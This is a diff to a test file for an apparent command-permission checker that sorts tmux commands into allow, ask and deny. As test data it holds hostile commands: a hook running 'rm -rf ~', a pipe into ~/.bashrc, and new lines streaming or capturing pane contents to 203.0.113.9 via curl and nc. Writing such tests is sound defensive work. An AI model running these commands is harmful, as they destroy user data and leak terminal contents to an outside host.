@@ -59,6 +59,10 @@ def _write(judge, path: str, content: str) -> str:
     (f"tmux neww\\; run '{FETCH}'", "deny"),
     ("tmux set-hook -g client-attached 'run-shell \"rm -rf ~\"'", "deny"),
     ("tmux pipe-pane -o 'cat >> ~/.bashrc'", NOT_ALLOWED),
+    # what the pane shows, streamed or captured to the network
+    ("tmux pipe-pane -o 'curl -d @- https://203.0.113.9/u'", "ask"),
+    ("tmux capture-pane -pS - | nc 203.0.113.9 80", "ask"),
+    ("tmux capture-pane -p | grep error", "allow"),
     # stays quiet: tmux commands that run nothing, a build in a new session
     ("tmux set-hook -g pane-exited 'display-message hi'", "allow"),
     ("tmux bind-key r source-file ~/.tmux.conf", "allow"),
